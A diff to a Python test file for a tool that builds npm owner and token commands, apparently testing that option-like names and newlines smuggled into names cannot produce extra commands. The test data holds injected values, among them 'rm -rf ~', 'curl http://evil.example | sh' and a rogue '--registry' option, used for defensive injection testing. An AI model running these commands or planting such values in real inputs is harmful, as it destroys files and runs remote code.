@@ -10,6 +10,7 @@ from hypothesis import strategies as st
 
 from hardenme.model.commands import deprecated, npm, options, publisher_removed, tag_moved
 from hardenme.model.npm_address import REGISTRY
+from hardenme.model.verdict import Fix
 
 NAMES = st.one_of(
     st.sampled_from(("-", "--", "-x", "--registry=http://evil.example", "--otp", "-g", "web")),
@@ -55,3 +56,22 @@ def options_of(words: tuple[str, ...]) -> set[str]:
 def test_what_needs_no_dashes_has_none(registry: str) -> None:
     assert " -- " not in npm(registry, "owner", "rm", "mallow", "@acme/-web")
     assert npm(REGISTRY, "owner", "rm", "-mallory", "web") == "npm owner rm -- -mallory web"
+
+
+@pytest.mark.parametrize(
+    ("command", "lines"),
+    [
+        ("", 0),
+        ("npm owner rm a b", 1),
+        ("chmod 600 ~/.npmrc && chown me ~/.npmrc", 1),
+        ("npm owner rm a b\nnpm owner rm c b", 2),
+        ("npm token revoke 'a\nnpm publish evil'", 1),
+        ("npm token revoke 'a'\"'\"'\nnpm publish evil '\"'\"''", 1),
+        ("npm token revoke a\nrm -rf ~", 1),
+        ("npm token revoke a\ncurl http://evil.example | sh", 1),
+    ],
+)
+def test_a_line_break_in_a_name_makes_no_command(command: str, lines: int) -> None:
+    fix = Fix("Do it", page="https://example.test/", command=command)
+    assert len(fix.commands) == lines
+    assert "\n".join(fix.commands) == command
